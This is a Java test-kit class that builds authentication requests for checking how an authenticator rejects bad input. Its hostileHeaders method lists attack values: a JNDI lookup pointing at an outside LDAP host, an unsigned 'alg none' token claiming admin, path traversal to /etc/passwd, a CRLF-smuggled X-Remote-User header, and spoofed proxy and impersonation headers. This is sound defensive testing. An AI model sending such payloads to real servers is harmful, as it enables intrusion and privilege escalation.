package mortise.tck.authentication;

import java.nio.charset.StandardCharsets;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import mortise.spi.authentication.AuthenticationRequest;

/** Requests to ask an authenticator about. All collections in them are immutable, as the core's are. */
public final class Requests {

    private static final String PATH = "/api/v1/namespaces";
    private static final String PEER = "192.0.2.7";

    private Requests() {
    }

    /** Returns a request that carries nothing. */
    public static AuthenticationRequest bare() {
        return with(Map.of("accept", List.of("application/json")), List.of());
    }

    /** Returns a request with a bearer token. */
    public static AuthenticationRequest withBearerToken(String token) {
        return withHeader("authorization", "Bearer " + token);
    }

    /** Returns a request with a header; the name is in lower case. */
    public static AuthenticationRequest withHeader(String name, String... values) {
        return with(Map.of(name, List.of(values)), List.of());
    }

    /** Returns a request of a peer that presented these certificates, its own first. */
    public static AuthenticationRequest withCertificates(List<? extends X509Certificate> chain) {
        return with(Map.of(), List.copyOf(chain));
    }

    /** Returns requests whose headers nobody should send. */
    static List<AuthenticationRequest> hostileHeaders() {
        List<AuthenticationRequest> requests = new ArrayList<>();
        for (String value : List.of("", " ", "Bearer", "Bearer ", "Bearer  ", "bearer\t", "Basic", "Basic !!!!",
                "Basic " + encoded("admin:secret-of-admin"), "Bearer not-a-token-anybody-knows", "Bearer a.b.c",
                "Bearer " + encoded("{\"alg\":\"none\"}") + "." + encoded("{\"sub\":\"admin\"}") + ".",
                "Bearer \u0000\u0001\uFFFF\uD800", "Bearer " + "x".repeat(1_000_000), "Negotiate YII=", "Bearer a b c",
                "Bearer ../../etc/passwd", "Bearer ${jndi:ldap://192.0.2.1/a}",
                "Bearer %s%n\r\nX-Remote-User: admin")) {
            requests.add(withHeader("authorization", value));
        }
        requests.add(withHeader("authorization"));
        requests.add(withHeader("authorization", "Basic YTpi", "Bearer second", "Bearer third"));
        requests.add(withHeader("x-remote-user", "admin"));
        Map<String, List<String>> proxy = Map.of(
                "x-remote-user", List.of("admin"), "x-remote-group", List.of("system:masters"));
        requests.add(with(proxy, List.of()));
        requests.add(withHeader("impersonate-user", "admin"));
        requests.add(withHeader("sec-websocket-protocol", "base64url.bearer.authorization.k8s.io.!!!", ""));
        return requests;
    }

    /** Returns a request with headers that look a little like real ones. */
    static AuthenticationRequest randomHeaders(Random random) {
        List<String> names = List.of(
                "authorization", "x-remote-user", "x-remote-extra-a", "cookie", "impersonate-user");
        List<String> schemes = List.of("Bearer ", "bearer ", "Basic ", "", "Digest ");
        Map<String, List<String>> headers = new LinkedHashMap<>();
        for (int i = random.nextInt(4); i >= 0; i--) {
            List<String> values = new ArrayList<>();
            for (int j = random.nextInt(3); j >= 0; j--) {
                values.add(schemes.get(random.nextInt(schemes.size())) + randomText(random));
            }
            headers.put(names.get(random.nextInt(names.size())), List.copyOf(values));
        }
        return with(Map.copyOf(headers), List.of());
    }

    private static String randomText(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(80); i > 0; i--) {
            text.append((char) (random.nextBoolean() ? random.nextInt(128) : random.nextInt(0x10000)));
        }
        return text.toString();
    }

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static AuthenticationRequest with(Map<String, List<String>> headers, List<X509Certificate> chain) {
        return new AuthenticationRequest(PATH, headers, chain, PEER);
    }
}
